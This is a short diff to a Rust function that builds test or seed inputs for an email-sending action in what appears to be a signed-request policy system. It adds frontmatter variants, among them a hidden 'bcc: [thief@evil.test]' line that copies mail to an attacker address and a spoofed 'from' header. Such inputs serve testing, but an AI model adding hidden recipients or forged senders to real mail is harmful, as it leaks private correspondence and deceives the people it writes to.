@@ -337,9 +337,9 @@ fn standings() -> Vec<Vec<u8>> {
     let row = standing.admit(&signed, request.clone(), chain.current(), node().node_id(), policy, NOW);
     let mut found = vec![payload(&signed), signed, request.to_bytes(), row.expect("covered").bundle.to_bytes()];
     found.push(request.note);
-    found.push(
-        b"---\naction: email\nto: B <b@client.test>\nbcc: [a@client.test]\nhand: smtp\nsubject: x\n---\ny\n".to_vec(),
-    );
+    for line in ["cc: B <b@client.test>\nhand: smtp", "bcc: [thief@evil.test]", "from: a@client.test"] {
+        found.push(format!("---\naction: email\nto: a@client.test\n{line}\nsubject: x\n---\ny\n").into_bytes());
+    }
     found
 }
 
